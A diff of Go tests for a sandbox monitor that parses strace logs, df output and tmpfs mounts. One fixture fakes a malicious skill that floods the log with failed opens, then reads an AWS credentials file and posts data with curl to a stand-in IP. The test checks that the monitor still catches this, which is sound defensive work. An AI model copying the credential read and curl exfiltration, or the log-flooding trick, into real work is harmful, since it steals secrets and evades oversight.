@@ -29,7 +29,7 @@ func deepLog(n int) string {
 func TestParseCallLogsBudgets(t *testing.T) {
 	const depth = 3000
 	tarball := makeTar(t, []tarEntry{{name: "calls/t001.log", typ: tar.TypeReg, body: deepLog(depth)}})
-	events, err := parseCallLogs(bytes.NewReader(tarball), "/tmp", 0, false, slog.New(slog.DiscardHandler))
+	events, err := parseCallLogs(bytes.NewReader(tarball), logParams{Cwd: "/tmp", Budget: 0}, slog.New(slog.DiscardHandler))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -56,7 +56,7 @@ func TestParseCallLogsBudgets(t *testing.T) {
 	}
 
 	// The same log within a 1 MiB budget: events past it are counted.
-	events, _ = parseCallLogs(bytes.NewReader(tarball), "/tmp", 1<<20, false, slog.New(slog.DiscardHandler))
+	events, _ = parseCallLogs(bytes.NewReader(tarball), logParams{Cwd: "/tmp", Budget: 1 << 20}, slog.New(slog.DiscardHandler))
 	var kept int
 	var notice *trace.Notice
 	budgets = nil
@@ -80,5 +80,113 @@ func TestParseCallLogsBudgets(t *testing.T) {
 	}
 	if notice == nil || !notice.Incomplete {
 		t.Errorf("notice %+v, want an Incomplete one", notice)
+	}
+}
+
+// TestParseFull: df's lines (untrusted) name the places at their size; a
+// place with room left, a malformed line or a header is not full.
+func TestParseFull(t *testing.T) {
+	out := `Filesystem     1-blocks      Used Available Capacity Mounted on
+tmpfs         268435456 268435456         0     100% /tmp
+tmpfs         134217728  10000000 124217728       8% /var/tmp
+tmpfs         536870912 520000000  16870912      97% /Users
+tmpfs           5242880   5160960     81920      99% /run/lock
+tmpfs           5242880   5160960     81920      99% /run/lock
+garbage line
+tmpfs            notanumber 1 1 1% /home
+tmpfs         536870912 536000000    870912     100% /home
+`
+	got := parseFull(out)
+	want := []string{"/tmp: 268435456 of 268435456 bytes", "/run/lock: 5160960 of 5242880 bytes", "/home: 536000000 of 536870912 bytes"}
+	if strings.Join(got, "|") != strings.Join(want, "|") {
+		t.Errorf("parseFull = %q, want %q", got, want)
+	}
+}
+
+// TestUserTmpfsSized: every place of userPlaces but the engine's /dev/shm
+// is a tmpfs of the spec with a size, and the runtime folder is the
+// user's.
+func TestUserTmpfsSized(t *testing.T) {
+	for _, home := range []string{"/home/ann", "/Users/ann"} {
+		m := userTmpfs(DefaultLimits(), home)
+		for _, p := range userPlaces(home) {
+			if p == "/dev/shm" {
+				continue
+			}
+			if !strings.Contains(m[p], ",size=") {
+				t.Errorf("%s: %s is not a tmpfs with a size: %q", home, p, m[p])
+			}
+		}
+	}
+	if o := userTmpfs(DefaultLimits(), "/home/ann")[RuntimeDir]; !strings.Contains(o, fmt.Sprintf("uid=%d", UserUID)) || RuntimeDir != fmt.Sprintf("/run/user/%d", UserUID) {
+		t.Errorf("runtime folder %s mounted %q", RuntimeDir, o)
+	}
+}
+
+// floodLog is an strace log of n failing opens with long paths, then a
+// read of cred, a connect and the exec of curl: what a skill that floods
+// the log before its decisive read writes.
+func floodLog(n int, cred string) string {
+	var b strings.Builder
+	long := strings.Repeat("x", 400)
+	for i := range n {
+		fmt.Fprintf(&b, "100 %d.%06d openat(AT_FDCWD, \"/tmp/%s/%d\", O_RDONLY) = -1 ENOENT (No such file or directory)\n", 1000+i/1000000, i%1000000, long, i)
+	}
+	fmt.Fprintf(&b, "100 2000.000001 openat(AT_FDCWD, %q, O_RDONLY) = 3<%s>\n", cred, cred)
+	b.WriteString("100 2000.000002 connect(4<TCP:[77]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr(\"203.0.113.7\")}, 16) = 0\n")
+	b.WriteString("100 2000.000003 execve(\"/usr/bin/curl\", [\"curl\", \"-d\", \"@-\", \"https://203.0.113.7/\"], 0x7ffd /* 3 vars */) = 0\n")
+	return b.String()
+}
+
+// TestParseCallLogsFlood (issue 30, item 2): a flood of failing opens that
+// alone is larger than the timeline's budget spends only the failed
+// calls' share of it; the later read of a planted file, the connect and
+// the exec are all kept, and the flood is a budget event that summarises
+// rather than an incomplete notice. A read of a file that is not planted
+// after the flood stays within the ordinary budget, which the flood did
+// not spend.
+func TestParseCallLogsFlood(t *testing.T) {
+	const n, budget = 20000, 4 << 20 // 20,000 opens of ~420 bytes: about twice the budget
+	cred := "/home/jdoe/.aws/credentials"
+	tarball := makeTar(t, []tarEntry{
+		{name: "calls/t001.log", typ: tar.TypeReg, body: floodLog(n, cred)},
+		{name: "calls/t002.log", typ: tar.TypeReg, body: "200 3000.000001 openat(AT_FDCWD, \"/home/jdoe/notes.txt\", O_RDONLY) = 3</home/jdoe/notes.txt>\n"},
+	})
+	events, err := parseCallLogs(bytes.NewReader(tarball), logParams{Cwd: "/tmp", Budget: budget, Keep: map[string]bool{cred: true}}, slog.New(slog.DiscardHandler))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var credRead, connect, exec, notes, failed bool
+	var failedKept int
+	for _, e := range events {
+		switch d := e.Data.(type) {
+		case *trace.File:
+			switch {
+			case d.Path == cred:
+				credRead = true
+			case d.Path == "/home/jdoe/notes.txt":
+				notes = true
+			case d.Errno != "":
+				failedKept++
+			}
+		case *trace.Net:
+			connect = true
+		case *trace.Exec:
+			exec = true
+		case *trace.Budget:
+			if d.Name == "failed-calls" && d.Summarised > 0 {
+				failed = true
+			}
+		case *trace.Notice:
+			if d.Incomplete {
+				t.Errorf("incomplete notice for a summarised flood: %s", d.Message)
+			}
+		}
+	}
+	if !credRead || !connect || !exec || !notes {
+		t.Errorf("after the flood: planted read kept %t, connect %t, exec %t, ordinary read %t", credRead, connect, exec, notes)
+	}
+	if !failed || failedKept == 0 || failedKept >= n {
+		t.Errorf("flood: %d of %d failed opens kept, summarised %t", failedKept, n, failed)
 	}
 }
